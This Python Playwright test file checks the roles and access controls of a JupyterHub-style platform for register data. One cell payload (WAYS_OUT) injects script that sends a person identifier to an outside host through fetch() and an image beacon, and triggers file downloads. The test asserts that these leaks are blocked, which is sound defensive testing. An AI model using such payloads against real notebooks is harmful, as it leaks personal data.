"""One walk for each role, through the whole platform, at a real browser."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from sundbench.hub import r
from tests.hub.browser.visit import OUTSIDE, Visit
from tests.hub.dashboards.conftest import RELEASE, REPORT

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(600),
    pytest.mark.usefixtures("sandboxes"),
]

Come = Callable[..., Visit]

PLOT = """\
import matplotlib.pyplot as plt, polars as pl, sundbench as sb
db = sb.connect()
years = db["lmdb"].lazy().group_by(year=pl.col("eksd").dt.year()).len().sort("year").collect()
_ = plt.bar(years["year"], years["len"])"""

WAYS_OUT = f"""\
from pathlib import Path
from IPython.display import HTML
Path("/work/persons.csv").write_text("person,atc")
HTML('''<p id="tried">tried</p><a id="out" download="persons.csv" href="data:text/csv,1,2,3">persons</a>
<img id="picture" src="http://{OUTSIDE}/?person=4711">
<script>
document.getElementById("out").click();
const made = document.createElement("a");
made.href = URL.createObjectURL(new Blob(["4711"])); made.download = "blob.csv";
document.body.appendChild(made); made.click();
window.sent = "no";
fetch("http://{OUTSIDE}/?person=4711", {{mode: "no-cors"}})
  .then(() => sent = "yes").catch(() => sent = "blocked");
</script>''')"""
"""What somebody might put into a cell who would like to have rows on their own machine."""


def test_researcher_from_log_in_to_log_out(visit: Come):
    rikke = visit("rikke")
    rikke.go("")
    rikke.reads("Log ind", "Log in", "h1")
    rikke.picture("log-in")
    with rikke.complaining():
        rikke.is_refused()
    rikke.log_in()
    rikke.reads("Mine projekter", "My projects", "h1")
    rikke.reads("forsker", "researcher", "#project-lung-cancer")
    rikke.reads("udløb", "expired on", "#project-old-study")
    expect(rikke.page.locator("#project-old-study .start")).to_have_count(0)
    expect(rikke.page.locator("#project-diabetes")).to_have_count(0)
    rikke.picture("projects")
    rikke.start("lung-cancer")

    book = rikke.new("Register data")
    expect(book.locator(".sb-banner")).to_contain_text("REGISTER DATA")
    cell = rikke.run(PLOT)
    expect(cell.locator(".jp-OutputArea img")).to_be_visible()
    rikke.picture("register-data")
    nothing_leaves(rikke)

    if not r.missing():
        rikke.beside("R: register data")
        cell = rikke.run("nrow(register('lmdb', c('person', 'atc'))) > 0; plot(1:3)")
        expect(cell.locator(".jp-OutputArea")).to_contain_text("TRUE")
        expect(cell.locator(".jp-OutputArea img")).to_be_visible()
        rikke.picture("r")

    rikke.speak_in_lab("da")
    welcome = rikke.open("lung-cancer", "members/rikke/velkommen.ipynb")
    expect(welcome.locator(".sb-banner")).to_contain_text("SYNTETISKE DATA")
    rikke.menu("Run", "Run All Cells")
    rikke.read_on(".jp-OutputArea img")
    rikke.picture("welcome")

    rikke.page.click("#sundbench-back")
    rikke.reads("kører", "running", "#project-lung-cancer .state")
    rikke.picture("projects-running")
    rikke.page.click("#project-lung-cancer .stop")
    rikke.reads("standset", "stopped", "#project-lung-cancer .state")
    rikke.log_out()
    rikke.reads("Log ind", "Log in", "h1")


def nothing_leaves(rikke: Visit) -> None:
    """The ways that a person with a browser would try, one after the other."""
    menus = rikke.offers("File")
    assert any("Save" in label for label in menus)
    assert not [label for label in menus for gone in ("Download", "Export", "Print") if gone in label]
    with rikke.complaining():
        rikke.run(WAYS_OUT)
        rikke.page.wait_for_selector("#tried")
        rikke.page.wait_for_function("window.sent !== 'no'")
        rikke.page.click("#out")
        assert rikke.page.evaluate("window.sent") == "blocked"
        assert rikke.page.evaluate("document.getElementById('picture').naturalWidth") == 0
        rikke.picture("ways-out")
        for path in (
            "files/Untitled.ipynb",
            "nbconvert/html/Untitled.ipynb",
            "api/contents/work/persons.csv",
        ):
            assert rikke.asks("lung-cancer", path)[0] in {403, 404}, path
    rikke.menu("File", "Save Notebook")
    rikke.page.locator(".jp-Dialog input").first.fill("first.ipynb")
    rikke.page.click(".jp-Dialog .jp-mod-accept")
    expect(rikke.page.locator(".jp-DirListing", has_text="first.ipynb")).to_be_visible()
    _, text = rikke.asks("lung-cancer", "api/contents/first.ipynb")
    kept = json.loads(text)["content"]["cells"]
    assert "sb.connect()" in kept[0]["source"]
    assert not [cell for cell in kept if cell.get("outputs")], "outputs of register data were saved"


def test_analyst_works_in_each_of_two_projects(visit: Come):
    anders = visit("anders")
    anders.log_in()
    anders.reads("analytiker", "analyst", "#project-lung-cancer")
    anders.reads("forsker", "researcher", "#project-diabetes")
    anders.start("diabetes")
    book = anders.new("Synthetic data")
    expect(book.locator(".sb-banner")).to_contain_text("diabetes")
    cell = anders.run("import sundbench as sb; sorted(sb.connect())")
    expect(cell.locator(".jp-OutputArea")).to_contain_text("['lmdb']")
    with anders.complaining():
        assert anders.go("user/rikke/lung-cancer/lab") in {403, 404}
        expect(anders.page.locator("main .refusal")).to_be_visible()
        anders.picture("no-access")


def test_reviewer_and_steward_see_why_they_have_nothing_to_start(visit: Come):
    vera = visit("vera")
    vera.log_in()
    vera.reads("outputkontrollør", "reviewer", "#project-lung-cancer")
    vera.reads("giver ikke adgang", "does not let you compute", "#project-lung-cancer")
    expect(vera.page.locator(".start")).to_have_count(0)
    vera.picture("projects")
    sofie = visit("sofie")
    sofie.log_in()
    sofie.reads("ikke medlem af et projekt", "not a member of any project")
    sofie.picture("projects")
    for one in (vera, sofie):
        with one.complaining():
            assert one.go(f"hub/spawn/{one.user}/lung-cancer") == 403
            one.picture("start-refused")
            assert one.go("services/dashboards/") == 403
            assert one.go("hub/admin") == 403
            one.reads("Ingen adgang", "No access", "h1")


def test_policymaker_reads_a_dashboard_and_nothing_else(visit: Come):
    palle = visit("palle")
    palle.log_in()
    palle.reads("Frigivne resultater", "Released results")
    palle.picture("home")
    palle.page.click("main a.action")
    palle.reads("Frigivne resultater", "Released results")
    expect(palle.page.locator(f"#dashboard-{REPORT}")).to_contain_text(RELEASE)
    palle.picture("dashboards")
    palle.page.click(f"#dashboard-{REPORT} a")
    expect(palle.page.locator("body")).to_contain_text("485.000")
    palle.picture("dashboard")
    with palle.complaining():
        for path in ("hub/spawn/palle/lung-cancer", "user/anders/diabetes/lab", "hub/admin", "hub/token"):
            assert palle.go(path) in {403, 404}, path


def test_admin_stops_servers_and_opens_none(visit: Come):
    rikke = visit("rikke")
    rikke.log_in()
    rikke.start("lung-cancer")
    rikke.go("hub/home")
    ida = visit("ida")
    ida.log_in()
    ida.page.click('a[href$="/admin"] >> nth=0')
    ida.reads("Servere lige nu", "Servers just now", "h1")
    row = ida.page.locator("tr", has_text="rikke").filter(has_text="lung-cancer")
    expect(row).to_be_visible()
    ida.picture("servers")
    with ida.complaining():
        assert ida.go("user/rikke/lung-cancer/lab") in {403, 404}
    ida.go("hub/admin")
    row.locator(".stop").click()
    expect(row).to_have_count(0)
    with rikke.complaining():
        rikke.go("user/rikke/lung-cancer/lab")
        rikke.reads("Serveren kører ikke", "The server is not running", "h1")
        rikke.picture("not-running")


@pytest.mark.parametrize("user", ["rikke", "palle", "ida"])
def test_pages_fit_a_phone(visit: Come, user: str):
    one = visit(user, phone=True)
    pages = {
        "rikke": ["hub/login", "hub/home"],
        "palle": ["hub/home", "services/dashboards/"],
        "ida": ["hub/admin"],
    }
    for number, path in enumerate(pages[user]):
        one.go(path)
        if number == 0 and path != "hub/login":
            one.log_in()
            one.go(path)
        one.picture(path.strip("/").rpartition("/")[2])
        assert one.page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), path
        if path == "hub/login":
            one.log_in()
